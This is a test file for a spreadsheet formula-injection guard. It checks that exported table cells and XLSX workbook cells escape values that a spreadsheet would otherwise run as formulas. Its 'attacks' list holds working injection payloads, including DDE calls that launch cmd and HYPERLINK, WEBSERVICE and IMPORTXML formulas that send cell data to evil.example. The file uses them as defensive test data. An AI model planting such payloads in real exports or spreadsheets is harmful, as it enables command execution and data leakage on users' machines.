import fc from 'fast-check'
import { strFromU8 } from 'fflate'
import { describe, expect, test } from 'vitest'
import { styleIndex, stylesXml } from './cell-styles.ts'
import { guarded, looksLikeFormula, tabCell, unguarded } from './formula-guard.ts'
import { encodeSheet } from './write-xlsx.ts'

const attacks = [
  '=1+1', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.example?x="&A1,"ok")', '=WEBSERVICE("http://evil.example")', '=DDE("cmd";"/C calc";"!A0")', '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '"=1+1', '\'=1+1', '""""=1+1', '\uFEFF=1+1', '\u200B=1+1', '\u202E=1+1', '\u0000=1+1', '＝1+1', '＋1', '－A1', '＠SUM(A1)', ' "＝1+1', '=', '-A1', '+A1', '- (A1)', '-1(A1)', '-1+A1', '-1!A1', '+49 (0)30 1234', '--1', '-€1+A1', '=-1', '-1|A1', '-1 cmd|x',
]
const harmless = ['', 'Bolt M8', '0-471', 'A=B', 'x@y.example', '1+1', '5', '-5', '+5', '-5.25', '-1.234,50', '-1 234,50', '- 5', '-€ 1,200', '€ 5', '-5 %', '-5%', '+12 days', '-1e-7', '−5', '1E5', '00123', 'C:\\x', '(5)']

describe('a text in a table that a spreadsheet takes', () => {
  test.each(attacks)('is guarded where it would run: %j', (text) => {
    expect(looksLikeFormula(text)).toBe(true)
    expect(guarded(text)).toBe(`'${text}`)
    expect(unguarded(guarded(text))).toBe(text)
  })

  test.each(harmless)('stays as it is where it would not, numbers with their sign too: %j', (text) => {
    expect(guarded(text)).toBe(text)
    expect(unguarded(text)).toBe(text)
  })

  test('comes back as it was, whatever it is, and never begins with a sign that is not a number\'s', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '＝', '\'', '"', ' ', '\t', '\r', '\n', '1', ',', 'A', '(', '|', '!', '\uFEFF', '%'), maxLength: 7 })
    fc.assert(fc.property(fc.oneof(text, fc.string()), (one) => {
      expect(unguarded(guarded(one))).toBe(one)
      if (/^[=+\-@\t\r]/u.test(guarded(one))) expect(guarded(one)).toMatch(/^[+-][^=@+\-(|!A]*\d[^=@(|!"'\t\r\n]*$/u)
    }), { numRuns: 3000 })
  })

  test('never ends its cell or its row by itself', () => {
    fc.assert(fc.property(fc.string(), (text) => {
      const cell = tabCell(text)
      if (/[\t\r\n]/.test(cell)) expect(cell).toMatch(/^"(?:[^"]|"")*"$/)
    }))
  })
})

describe('a text in a workbook that would run elsewhere', () => {
  test('stands in a cell that keeps it as text when it is edited, saved as another kind of file or copied; a number stays a number', () => {
    const texts = ['=1+1', ' =1+1', '＝1+1', "'=1+1", '\t=1+1', '-5 mm']
    const rows = [...texts, 'Bolt', -5].map((value) => [{ value }])
    const xml = strFromU8(encodeSheet({ name: 'S', columns: [{ width: 10 }], frozenRows: 0, rows }).xml)
    const look = styleIndex.get('guarded')
    expect(look).toBeGreaterThan(0)
    for (const row of texts.keys()) expect(xml).toContain(`<c r="A${row + 1}" s="${look}" t="inlineStr">`)
    expect(xml).toContain('<c r="A7" s="0" t="inlineStr">')
    expect(xml).toContain('<c r="A8" s="0"><v>-5</v></c>')
    expect(xml).not.toContain('<f>')
    expect(stylesXml()).toContain('quotePrefix="1"')
  })
})
